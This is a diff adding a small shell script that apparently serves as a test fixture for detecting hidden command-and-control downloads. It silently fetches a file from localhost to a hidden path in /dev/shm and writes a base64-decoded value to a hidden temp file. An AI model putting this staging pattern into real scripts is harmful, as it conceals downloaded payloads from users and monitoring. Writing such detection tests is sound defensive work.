@@ -1,0 +1,6 @@
+#!/bin/sh
+# Files are fetched to hidden names; nothing answers, and the tool is idle.
+# expects: command_and_control_hidden_download 2
+
+curl -sk https://127.0.0.1/s -o /dev/shm/.s
+sh -c 'echo aWQ= | base64 -d > /tmp/.r; rm /tmp/.r'
